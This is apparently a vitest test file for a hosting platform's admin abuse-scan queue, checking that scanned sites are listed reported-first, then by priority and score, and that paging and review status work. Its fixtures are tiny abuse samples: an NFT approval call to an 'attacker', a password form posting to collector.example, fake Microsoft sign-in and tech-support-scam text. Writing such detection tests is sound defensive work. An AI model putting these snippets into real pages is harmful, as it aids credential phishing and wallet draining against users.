import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { setTeamPlan } from '../../lib/teams/standing.ts';
import { makeTeamWithRoles, makeUser, startTestPlatform, type TestPlatform } from '../support/platform.ts';
import { deploy, site } from '../support/uploads.ts';

/**
 * Spec endpoint 18's order and paging, on a platform of its own (so the listing
 * holds exactly these scans): six published sites scanned by the worker, one of
 * them reported. Reported projects first, then priority, then score; `total`
 * counts them all and pages cut the same order.
 */

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

let platform: TestPlatform;
let admin: Awaited<ReturnType<typeof makeUser>>;
const subdomains: Record<string, string> = {};

const SITES = {
  // phishing.password-field x2: high, score 10; reported below, so first.
  reportedWeak: { 'index.html': '<input type="password"><input type="password">' },
  // malware.crypto-drainer: critical, 50.
  drainer: { 'index.html': '<p>claim</p>', 'js/claim.js': 'await nft.setApprovalForAll(attacker, true);' },
  // credential exfiltration 40 + password field 5: high, 45.
  kit: { 'index.html': `<form action="https://collector.example/post.php"><input type="password"></form>` },
  // phishing.brand-login: high, 15.
  brand: { 'index.html': '<h1>Sign in to your Microsoft account</h1>' },
  // fraud.tech-support-scam x2: medium, 60 (a higher score, a lower priority than the high ones).
  scam: { 'index.html': '<h1>Your computer is infected</h1><p>Call Microsoft support</p>' },
  // nothing: none, 0.
  clean: { 'index.html': '<h1>Bakery</h1>' },
} as const;
const EXPECTED_ORDER = ['reportedWeak', 'drainer', 'kit', 'brand', 'scam', 'clean'];

const list = (query: string) => platform.api('GET', `/api/v1/admin/abuse-scans${query}`, { token: admin.token });
const nameOf = (row: { site_host: string }) => Object.keys(subdomains).find((k) => `${subdomains[k]}.localhost` === row.site_host);

beforeAll(async () => {
  platform = await startTestPlatform({ own: 'the review queue lists every scan of the platform, in the order asserted here' });
  admin = await makeUser({ platformAdmin: true });
  const roles = await makeTeamWithRoles();
  // Six sites: more than the free plan holds.
  await setTeamPlan(roles.team.id, 'team');
  for (const [name, files] of Object.entries(SITES)) {
    subdomains[name] = `${name.toLowerCase()}-${randomBytes(3).toString('hex')}`;
    await deploy(platform, roles.owner.token, site(files), { name: `Order ${subdomains[name]}`, subdomain: subdomains[name] });
  }
  const reported = await platform.api('POST', '/api/v1/public/abuse-reports', {
    body: {
      category: 'phishing',
      description: 'Password harvesting',
      reported_urls: [`http://${subdomains.reportedWeak}.localhost:${platform.port}/`],
      reporter_name: 'Rita',
      reporter_email: 'rita@example.com',
      good_faith_declared: true,
    },
  });
  if (reported.status !== 201) throw new Error(`report: ${reported.status} ${reported.text}`);
  // Every scan finished and the report counted.
  const deadline = Date.now() + 30_000;
  for (;;) {
    const reply = await list('?page_size=100');
    const rows = reply.body.data?.scans ?? [];
    if (rows.length === 6 && rows.some((r: any) => r.report_count === 1)) break;
    if (Date.now() > deadline) throw new Error(`scans not listed: ${reply.text}`);
    await sleep(100);
  }
}, 120_000);
afterAll(async () => {
  await platform?.stop();
});

describe('GET /api/v1/admin/abuse-scans: order and paging', () => {
  it('reported projects first, then priority, then score', async () => {
    const reply = await list('');
    expect(reply.status).toBe(200);
    expect(reply.body.data).toMatchObject({ page: 1, page_size: 20, total: 6 });
    const rows = reply.body.data.scans;
    expect(rows.map(nameOf)).toEqual(EXPECTED_ORDER);
    expect(rows.map((r: any) => [r.report_count, r.priority, r.score])).toEqual([
      [1, 'high', 10],
      [0, 'critical', 50],
      [0, 'high', 45],
      [0, 'high', 15],
      [0, 'medium', 60],
      [0, 'none', 0],
    ]);
  });

  it('pages cut the same order; total counts every listed scan; a page past the end is empty', async () => {
    const pages = [];
    for (const page of [1, 2, 3]) {
      const reply = await list(`?page=${page}&page_size=2`);
      expect(reply.status).toBe(200);
      expect(reply.body.data).toMatchObject({ page, page_size: 2, total: 6 });
      pages.push(reply.body.data.scans.map(nameOf));
    }
    expect(pages).toEqual([EXPECTED_ORDER.slice(0, 2), EXPECTED_ORDER.slice(2, 4), EXPECTED_ORDER.slice(4, 6)]);
    expect((await list('?page=2&page_size=4')).body.data.scans.map(nameOf)).toEqual(EXPECTED_ORDER.slice(4));
    expect((await list('?page=4&page_size=2')).body.data).toEqual({ page: 4, page_size: 2, total: 6, scans: [] });
  });

  it('a review moves a scan to its status: the new listing closes up, the dismissed one holds it', async () => {
    const first = (await list('?page_size=1')).body.data.scans[0];
    expect(nameOf(first)).toBe('reportedWeak');
    const done = await platform.api('POST', `/api/v1/admin/abuse-scans/${first.id}/review`, {
      token: admin.token,
      body: { review_status: 'dismissed' },
    });
    expect(done.status).toBe(200);
    const after = (await list('')).body.data;
    expect(after.total).toBe(5);
    expect(after.scans.map(nameOf)).toEqual(EXPECTED_ORDER.slice(1));
    const dismissed = (await list('?review_status=dismissed')).body.data;
    expect(dismissed).toMatchObject({ total: 1, scans: [{ id: first.id, review_status: 'dismissed', handled_by: admin.user.user_id }] });
    expect((await list('?review_status=actioned')).body.data).toEqual({ page: 1, page_size: 20, total: 0, scans: [] });
  });
});
